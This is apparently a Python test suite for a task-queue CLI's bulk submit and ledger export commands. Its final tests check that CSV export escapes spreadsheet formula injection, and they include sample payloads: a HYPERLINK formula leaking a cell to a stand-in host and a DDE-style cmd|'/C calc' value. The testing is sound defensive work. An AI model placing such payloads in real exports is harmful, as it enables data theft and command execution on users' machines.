"""Work in bulk: ``submit --from FILE.jsonl`` and ``ledger export``, against a real daemon."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from colibri.cli.bulk import FORMULA_LEADS, spreadsheet_cell
from colibri.core.errors import ColibriError
from tests.cli.test_cli import as_json, colibri, error_line, ok
from tests.helpers import Daemon, FakeAgent, on_a_terminal, screen, wait_until


def _lines(path: Path, *objects: object) -> Path:
    path.write_text("".join(json.dumps(o) + "\n" for o in objects))
    return path


def test_submit_from_a_file_takes_every_task_and_honours_idempotency_keys(
    daemon: Daemon, tmp_path: Path
) -> None:
    bom = tmp_path / "bom.jsonl"
    bom.write_bytes(b"\xef\xbb\xbf" + json.dumps({"text": "written by a BOM-happy editor"})
                    .encode() + b"\n")  # fmt: skip
    assert len(ok(colibri("submit", "--from", str(bom), root=daemon.root)).split()) == 1
    source = _lines(
        tmp_path / "tasks.jsonl",
        {"text": "one", "capabilities": ["python"], "priority": 3, "labels": ["bulk"]},
        {"text": "two", "idempotency_key": "k-2"},
        {"text": "two", "idempotency_key": "k-2"},
        {"text": "pinned", "agent": "ghost"},
    )
    with source.open("a") as f:
        f.write("\n# a comment, and a blank line above\n")
    done = colibri("submit", "--from", str(source), root=daemon.root)
    ids = ok(done).split()
    assert len(ids) == 4 and ids[1] == ids[2]
    summary = done.stderr.strip().splitlines()
    assert summary[0] == f"colibri: submitted 3 tasks from {source}, 1 already there (its " \
        "idempotency key)"  # fmt: skip
    assert any("1 task waits: no agent named ghost has registered yet" in x for x in summary)
    assert any("1 task waits: no agent has registered with python yet" in x for x in summary)
    tasks = {t["id"]: t for t in daemon.call("list", limit=10)["tasks"]}
    assert len(tasks) == 4
    assert tasks[ids[0]]["priority"] == 3 and tasks[ids[0]]["labels"] == ["bulk"]
    assert tasks[ids[3]]["agent"] == "ghost" and tasks[ids[3]]["pinned"]
    # --json: one task a line, with whether it was made now.
    again = colibri("submit", "--from", "-", "--json", root=daemon.root,
                    input='{"text": "two", "idempotency_key": "k-2"}\n')  # fmt: skip
    (line,) = ok(again).splitlines()
    assert json.loads(line)["id"] == ids[1] and json.loads(line)["created"] is False


def test_a_bad_line_stops_the_whole_file_before_anything_is_sent(
    daemon: Daemon, tmp_path: Path
) -> None:
    for bad, says in [
        ('{"text": "x", "priority": "high"}', "priority: Expected `int`, got `str`"),
        ('{"text": "x", "capabilitys": ["a"]}', "unknown field `capabilitys`"),
        ('{"text": "x"', "truncated"),
        ('["text"]', "Expected `object`"),
        ('{"text": "x", "claim": "c"}', "claim is for sessions"),
        ('{"text": "x", "capabilities": ["BAD CAP"]}', "invalid capability 'bad cap'"),
        ('{"text": "x", "workspace": "no/slash"}', "invalid workspace 'no/slash'"),
        ('{"text": "x", "agent": " "}', "invalid agent name ' '"),
        ('{"text": "x", "tenant": "A B"}', "invalid tenant 'A B'"),
        ('{"text": "  "}', "text is empty"),
    ]:  # fmt: skip
        source = tmp_path / "tasks.jsonl"
        source.write_text('{"text": "fine"}\n' + bad + "\n")
        line = error_line(colibri("submit", "--from", str(source), root=daemon.root))
        assert line.startswith(f"colibri: {source}:2: "), line
        assert says in line and line.endswith("nothing was submitted"), line
    assert daemon.call("list")["tasks"] == []
    missing = error_line(colibri("submit", "--from", str(tmp_path / "nope"), root=daemon.root))
    assert "nope" in missing
    usage = colibri("submit", "text", "--from", str(source), root=daemon.root)
    assert usage.returncode == 2 and "leave out TEXT" in usage.stderr


def test_a_refusal_of_any_line_leaves_the_whole_file_unsubmitted_and_names_the_line(
    daemon: Daemon, tmp_path: Path
) -> None:
    """What only the board can tell — a parent that does not exist or is cancelled, a budget
    the lines before used up, a parent named by too short a prefix — refuses the whole file,
    naming the line; none of it is submitted."""
    cancelled = daemon.submit("cancelled parent", capabilities=["zz"])["id"]
    daemon.call("cancel", task=cancelled)
    funded = daemon.submit("funded parent", capabilities=["zz"], budget_usd=1.0)["id"]
    before = daemon.call("status")["ledger_at"]
    for number, bad, says in [
        (3, {"text": "c", "parent": "ffffffff-0000-7000-8000-000000000000"}, "does not exist"),
        (2, {"text": "c", "parent": cancelled}, "cancelled"),
        (3, {"text": "c", "parent": funded, "budget_usd": 0.6}, "budget"),
        (2, {"text": "c", "parent": "ab"}, "too short to name a task"),
    ]:
        lines = [{"text": "a", "parent": funded, "budget_usd": 0.5}, {"text": "b"}]
        lines.insert(number - 1, bad)
        source = _lines(tmp_path / "t.jsonl", *lines)
        done = colibri("submit", "--from", str(source), root=daemon.root)
        assert done.returncode == 1 and done.stdout == "", (bad, done.stdout)
        (line,) = done.stderr.strip().splitlines()
        assert line.startswith(f"colibri: {source}:{number}: ") and says in line, line
        assert line.endswith("; nothing was submitted"), line
        assert daemon.call("status")["ledger_at"] == before
    assert len(daemon.call("list")["tasks"]) == 2  # the two parents only
    # On the wire: the refusal names the submission (from 0) as ``index``.
    with pytest.raises(ColibriError) as caught:
        daemon.call("submit-all", tasks=[{"text": "a"}, {"text": "b", "parent": cancelled}])
    assert (caught.value.code, caught.value.index) == ("parent_cancelled", 1)
    assert daemon.call("status")["ledger_at"] == before


def test_a_file_larger_than_one_request_is_refused_before_anything_is_sent(
    root: Path, tmp_path: Path
) -> None:
    (root / "colibri.jsonc").write_text(json.dumps({"server": {"max_line": 1024}}))
    daemon = Daemon(root)
    daemon.start()
    try:
        source = _lines(tmp_path / "t.jsonl", *({"text": f"task {i}"} for i in range(60)))
        line = error_line(colibri("submit", "--from", str(source), root=root))
        assert "more than the daemon's server.max_line of 1024" in line, line
        assert line.endswith("nothing was submitted")
        many = _lines(tmp_path / "many.jsonl", *({"text": "t"} for _ in range(10_001)))
        line = error_line(colibri("submit", "--from", str(many), root=root))
        assert "holds 10001 tasks, more than the 10000" in line, line
        assert daemon.call("list")["tasks"] == []
    finally:
        daemon.stop()


def test_on_a_terminal_progress_is_erased_and_one_summary_stays(
    daemon: Daemon, tmp_path: Path
) -> None:
    """While it runs, a bulk command says how far it is on stderr when that is a terminal;
    once it is done the terminal shows its output and one summary line, no second count."""
    command = [sys.executable, "-m", "colibri", "--root", str(daemon.root)]
    kept = daemon.submit("already there", idempotency_key="k")["id"]
    source = _lines(tmp_path / "t.jsonl", {"text": "already there", "idempotency_key": "k"},
                    *({"text": f"t{i}"} for i in range(599)))  # fmt: skip
    done, shown = on_a_terminal([*command, "submit", "--from", str(source)], stdout_too=True)
    assert done.returncode == 0 and b"submitting 600 tasks from " in shown, shown
    *ids, summary = screen(shown)
    assert len(ids) == 600 and ids[0] == kept
    assert summary == f"colibri: submitted 599 tasks from {source}, 1 already there (its " \
        "idempotency key)"  # fmt: skip
    # The ledger, 600 rows, into a file: counted while it runs, then its summary.
    out = tmp_path / "ledger.jsonl"
    done, shown = on_a_terminal([*command, "ledger", "export", "--out", str(out)],
                                stdout_too=True)  # fmt: skip
    rows = len(out.read_text().splitlines())
    assert done.returncode == 0 and rows >= 600 and b"exporting the ledger: 500 rows" in shown
    assert screen(shown) == [f"exported {rows} ledger rows to {out} (jsonl)"]
    # Into a pipe, with stderr on the terminal: the count, erased.
    done, shown = on_a_terminal([*command, "ledger", "export"])
    assert len(done.stdout.splitlines()) == rows and b"exporting the ledger: 500" in shown
    assert screen(shown) == []
    # Onto the terminal itself: the rows, and no count drawn over them.
    done, shown = on_a_terminal([*command, "ledger", "export"], stdout_too=True)
    assert b"exporting" not in shown and len(screen(shown)) == rows
    piped = colibri("ledger", "export", root=daemon.root)
    assert piped.stderr == ""
    one = colibri("submit", "--from", "-", root=daemon.root, input='{"text": "one"}\n')
    assert one.stderr.splitlines()[0] == "colibri: submitted 1 task from stdin"


def test_ledger_export_writes_every_row_as_json_lines_or_csv(
    daemon: Daemon, tmp_path: Path
) -> None:
    for i in range(3):
        daemon.submit(f"task {i}", capabilities=["x"])
    task = daemon.submit("to cancel")["id"]
    daemon.call("cancel", task=task, reason='not, "needed"\nany more')
    rows = daemon.call("ledger", limit=1000)["entries"]
    exported = [json.loads(line) for line in ok(colibri("ledger", "export", root=daemon.root))
                .splitlines()]  # fmt: skip
    assert exported == rows
    table = list(csv.reader(io.StringIO(ok(colibri("ledger", "export", "--format", "csv",
                                                   root=daemon.root)))))  # fmt: skip
    assert table[0][:3] == ["seq", "at", "task"] and len(table) == len(rows) + 1
    assert [int(r[0]) for r in table[1:]] == [r["seq"] for r in rows]
    assert 'not, "needed"\nany more' in [r[9] for r in table]  # quoted, not split into rows
    after = as_json_lines(colibri("ledger", "export", "--since", "3", root=daemon.root))
    assert [r["seq"] for r in after] == [r["seq"] for r in rows if r["seq"] > 3]
    today = rows[0]["at"][:10]
    assert len(as_json_lines(colibri("ledger", "export", "--since", today, root=daemon.root))) == (
        len(rows)
    )
    late = colibri("ledger", "export", "--since", "2999-01-01", root=daemon.root)
    assert as_json_lines(late) == []
    for since, says in [("yesterday", "neither a ledger position nor a time"),
                        ("²", "neither a ledger position nor"), ("9" * 30, "past the last seq"),
                        ("default:1,default:2", "neither a ledger position")]:  # fmt: skip
        bad = colibri("ledger", "export", "--since", since, root=daemon.root)
        assert bad.returncode == 2 and says in bad.stderr, (since, bad.stderr)
    out = tmp_path / "ledger.csv"
    summary = as_json(colibri("ledger", "export", "--format", "csv", "--out", str(out), "--json",
                              root=daemon.root))  # fmt: skip
    assert summary == {"rows": len(rows), "format": "csv", "out": str(out)}
    assert out.read_text().count("\n") >= len(rows) + 1
    refused = error_line(colibri("ledger", "export", "--out", str(out), root=daemon.root))
    assert refused == f"colibri: {out} exists; give another --out, or remove it"
    # ledger itself, with its options, is unchanged by having a subcommand.
    plain = colibri("ledger", "--json", "--after", "2", root=daemon.root)
    assert [r["seq"] for r in as_json_lines(plain)] == [r["seq"] for r in rows if r["seq"] > 2]


def as_json_lines(result: subprocess.CompletedProcess[str]) -> list[dict[str, object]]:
    return [json.loads(line) for line in ok(result).splitlines()]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_like_a_formula_is_written_as_text(lead: str) -> None:
    text = f'{lead}HYPERLINK("http://x.example/?"&A1,"see")'
    assert spreadsheet_cell(text) == "'" + text
    assert spreadsheet_cell(" " + text) == " " + text  # only the first character counts
    assert spreadsheet_cell("plain") == "plain"


@pytest.mark.parametrize("number", [-1, -0.5, 0, 3, 2.5e-7, None])
def test_numbers_and_empty_cells_stay_as_they_are(number: float | None) -> None:
    assert spreadsheet_cell(number) is number


def test_ledger_export_to_csv_writes_no_formula_from_any_column(
    daemon: Daemon, tmp_path: Path
) -> None:
    """A session's error and its cost's model, an operator's cancel reason: every text column a
    user or a session writes into, written so no spreadsheet runs it; numbers left numbers."""
    agent = FakeAgent(daemon, "worker", ["python"])
    try:
        failed = daemon.submit("fails", capabilities=["python"])["id"]
        agent.fail(agent.next_assign(), error='=HYPERLINK("http://x.example","open")')
        done = daemon.submit("costs", capabilities=["python"])["id"]
        agent.out(agent.next_assign(), cost={"usd": 0.25, "tokens_in": 3, "model": "@SUM(1+1)*cmd"})
        for n, lead in enumerate(["+", "-", "\t", "\r"]):
            pending = daemon.submit(f"cancelled {n}", capabilities=["zfs"])["id"]
            daemon.call("cancel", task=pending, reason=f"{lead}cmd|'/C calc'!A0; =1+1")
        wait_until(lambda: daemon.task(done)["state"] == "closed")
    finally:
        agent.close()
    out = tmp_path / "ledger.csv"
    ok(colibri("ledger", "export", "--format", "csv", "--out", str(out), root=daemon.root))
    exported = out.read_bytes().decode()  # as a spreadsheet reads it: a "\r" is kept
    table = list(csv.reader(io.StringIO(exported, newline="")))
    assert len(table) > 8 and table[0][0] == "seq"
    cells = [cell for row in table[1:] for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_LEADS), cell
    reasons = [row[9] for row in table[1:]]
    assert any(r.startswith("'=HYPERLINK(") for r in reasons), reasons
    for lead in ["+", "-", "\t", "\r"]:
        assert f"'{lead}cmd|'/C calc'!A0; =1+1" in reasons
    models = [row[15] for row in table[1:] if row[15]]
    assert models == ["'@SUM(1+1)*cmd"]
    # Numbers are written bare (a spreadsheet keeps them numbers), text quoted (a spreadsheet
    # that splits on ";" keeps "…; =1+1" in one cell).
    assert exported.startswith('"seq","at","task"')
    seqs = [line.split(",", 1)[0] for line in exported.split("\r\n")[1:] if line[:1].isdigit()]
    assert len(seqs) == len(table) - 1  # each row starts with its seq, bare
    assert {row[2] for row in table[1:]} >= {failed, done}
